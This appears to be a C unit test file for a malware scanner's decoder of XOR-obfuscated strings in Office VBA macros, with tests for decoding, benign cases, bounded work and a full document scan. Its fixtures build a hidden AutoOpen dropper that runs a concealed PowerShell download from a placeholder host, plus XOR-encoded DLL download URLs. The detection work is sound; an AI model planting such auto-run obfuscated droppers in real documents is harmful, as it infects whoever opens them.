/* VBA: XOR-encoded strings decoded statically when data and key are literals in the module. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "office/office.h"
#include "office_fixtures.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define PS "powershell -nop -w hidden -c iwr http://198.51.100.50/p.ps1 -o $env:TEMP\\p.ps1"
#define URL2 "http://198.51.100.60/invoice.dll"

/* Array(...) of the bytes of plain XOR key */
static void xor_array(eg_buf *b, const char *plain, unsigned key)
{
    eg_buf_puts(b, "Array(");
    for (size_t i = 0; plain[i]; i++)
        eg_buf_printf(b, "%s%u", i ? ", " : "", ((unsigned char)plain[i] ^ key) & 0xFF);
    eg_buf_putc(b, ')');
}

static void xor_hex(eg_buf *b, const char *plain, const char *key)
{
    size_t kl = strlen(key);
    for (size_t i = 0; plain[i]; i++)
        eg_buf_printf(b, "%02X", (unsigned char)plain[i] ^ (unsigned char)key[i % kl]);
}

static char *module_array(void)
{
    eg_buf b;
    eg_buf_init(&b, 0);
    eg_buf_puts(&b, "Attribute VB_Name = \"Module1\"\r\n"
                    "Function Dc(a, k)\r\n"
                    "  Dim i, s\r\n"
                    "  For i = LBound(a) To UBound(a)\r\n"
                    "    s = s & Chr(a(i) Xor k)\r\n"
                    "  Next\r\n"
                    "  Dc = s\r\n"
                    "End Function\r\n"
                    "Sub AutoOpen()\r\n"
                    "  CreateObject(\"WScript.Shell\").Run Dc(");
    xor_array(&b, PS, 77);
    eg_buf_puts(&b, ", 77), 0\r\nEnd Sub\r\n");
    size_t n;
    return eg_buf_steal(&b, &n);
}

static void test_array_numeric_key(void **state)
{
    (void)state;
    char *src = module_array();
    eg_buf out, keys;
    eg_buf_init(&out, 0);
    eg_buf_init(&keys, 0);
    assert_int_equal(eg_vba_xor_decode(src, strlen(src), &out, &keys), 1);
    assert_string_equal((char *)out.data, PS "\n");
    assert_string_equal((char *)keys.data, "77 (0x4D)\n");
    eg_buf_free(&out);
    eg_buf_free(&keys);
    free(src);
}

static void test_hex_string_key(void **state)
{
    (void)state;
    eg_buf b;
    eg_buf_init(&b, 0);
    eg_buf_puts(&b, "Private Const K As String = \"s3cr3t\"\r\n"
                    "Function Dx(h)\r\n"
                    "  For i = 1 To Len(h) Step 2\r\n"
                    "    b = CLng(\"&H\" & Mid(h, i, 2))\r\n"
                    "    r = r & Chr(b Xor Asc(Mid(K, (((i - 1) / 2) Mod Len(K)) + 1, 1)))\r\n"
                    "  Next\r\n"
                    "  Dx = r\r\n"
                    "End Function\r\n"
                    "Sub Workbook_Open()\r\n"
                    "  u = Dx(\"");
    xor_hex(&b, URL2, "s3cr3t");
    eg_buf_puts(&b, "\")\r\nEnd Sub\r\n");
    eg_buf out, keys;
    eg_buf_init(&out, 0);
    eg_buf_init(&keys, 0);
    assert_int_equal(eg_vba_xor_decode((char *)b.data, b.len, &out, &keys), 1);
    assert_string_equal((char *)out.data, URL2 "\n");
    assert_string_equal((char *)keys.data, "\"s3cr3t\"\n");
    /* a plain string XORed character by character with a key next to Xor, data in a variable */
    out.len = keys.len = 0;
    const char *src2 =
        "Sub Go()\r\n  e = \"iuuq;..089/40/011/81.y/emm\"\r\n"
        "  For i = 1 To Len(e): t = t & Chr(Asc(Mid(e, i, 1)) Xor 1): Next\r\nEnd Sub\r\n";
    assert_int_equal(eg_vba_xor_decode(src2, strlen(src2), &out, &keys), 1);
    assert_string_equal((char *)out.data, "http://198.51.100.90/x.dll\n");
    eg_buf_free(&out);
    eg_buf_free(&keys);
    eg_buf_free(&b);
}

static void test_benign_xor(void **state)
{
    (void)state;
    /* a checksum with Xor and ordinary strings: nothing is "decoded" */
    const char *src =
        "Function Chk(s)\r\n"
        "  For i = 1 To Len(s): h = (h * 31) Xor Asc(Mid(s, i, 1)): Next\r\n"
        "  Chk = h And 65535\r\n"
        "End Function\r\n"
        "Sub Save()\r\n"
        "  MsgBox \"Saved the report to the shared folder\": v = Chk(\"Quarterly report 2024\")\r\n"
        "  Range(\"A1\").Value = Chk(\"Sales by region\") Xor 7\r\n"
        "End Sub\r\n";
    eg_buf out;
    eg_buf_init(&out, 0);
    assert_int_equal(eg_vba_xor_decode(src, strlen(src), &out, NULL), 0);
    assert_int_equal(out.len, 0);
    /* no Xor at all, and hostile shapes: bounded, no crash */
    assert_int_equal(eg_vba_xor_decode("x = Array(1,2,3,4)", 18, &out, NULL), 0);
    eg_buf h;
    eg_buf_init(&h, 0);
    eg_buf_puts(&h, "Function F(a)\r\n a = a Xor 9 _\r\n");
    for (int i = 0; i < 3000; i++)
        eg_buf_puts(&h, " _\r\n");
    eg_buf_puts(&h, "d = Array(");
    for (int i = 0; i < 70000; i++)
        eg_buf_printf(&h, "%d,", (i * 7) & 0xFF);
    eg_buf_puts(&h, "1) Xor \"k\r\nEnd Function\r\n");
    for (size_t n = 0; n < h.len; n += h.len / 50 + 1)
        eg_vba_xor_decode((char *)h.data, n, &out, NULL);
    eg_vba_xor_decode((char *)h.data, h.len, &out, NULL);
    eg_buf_free(&h);
    eg_buf_free(&out);
}

static void test_scan_xor_dropper(void **state)
{
    (void)state;
    char *src = module_array();
    eg_fx_module m[] = {{"Module1", src, false, NULL}};
    uint8_t *doc;
    size_t len;
    assert_int_equal(eg_fx_vba_document(EG_FX_VBA_DOC, m, 1, 1252, NULL, 0, &doc, &len), EG_OK);
    eg_report *r = eg_fx_scan("invoice.doc", doc, len, NULL, 0);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    assert_true(eg_fx_finding_with(r, "VBA.DECODED_STRING", "XOR key 77 (0x4D): \"" PS));
    assert_true(eg_fx_finding_with(r, "VBA.OBFUSCATION", "XOR: decoded"));
    bool ioc = false, cmd = false;
    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
        ioc |= strstr(eg_report_ioc(r, i)->value, "198.51.100.50") != NULL;
    for (size_t i = 0; i < eg_report_finding_count(r); i++)
        cmd |= !strncmp(eg_rule_get(eg_report_finding(r, i)->rule)->id, "CMD.", 4);
    assert_true(ioc);
    assert_true(cmd);
    assert_non_null(strstr(eg_fx_captured(EG_T_TEXT), PS));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(doc);
    free(src);
}

/* A module built to make the decoder try every pair: 32 long unreadable literals against 32 key
 * strings of 64 characters at every shift (4 G values). The work is bounded per module; the
 * real pair written first is still found. */
static void test_work_bounded(void **state)
{
    (void)state;
    char *first = module_array();
    eg_buf b;
    eg_buf_init(&b, 0);
    eg_buf_puts(&b, first);
    free(first);
    uint32_t rng = 12345;
    for (int k = 0; k < 32; k++) {
        eg_buf_puts(&b, "  k = Dc(\"");
        for (int i = 0; i < 64; i++)
            eg_buf_putc(&b, (uint8_t)('A' + (rng = rng * 1103515245u + 12345u) % 26));
        eg_buf_puts(&b, "\")\r\n");
    }
    for (int d = 0; d < 32; d++) {
        eg_buf_puts(&b, "  v = Dc(\"");
        for (int i = 0; i < 65536; i++) /* bytes no key turns into text */
            eg_buf_putc(&b, (uint8_t)(0x80 + (rng = rng * 1103515245u + 12345u) % 0x7F));
        eg_buf_puts(&b, "\")\r\n");
    }
    eg_buf out;
    eg_buf_init(&out, 0);
    assert_int_equal(eg_vba_xor_decode((char *)b.data, b.len, &out, NULL), 1);
    assert_string_equal((char *)out.data, PS "\n");
    eg_buf_free(&out);
    eg_buf_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_array_numeric_key), cmocka_unit_test(test_hex_string_key),
        cmocka_unit_test(test_benign_xor),        cmocka_unit_test(test_scan_xor_dropper),
        cmocka_unit_test(test_work_bounded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
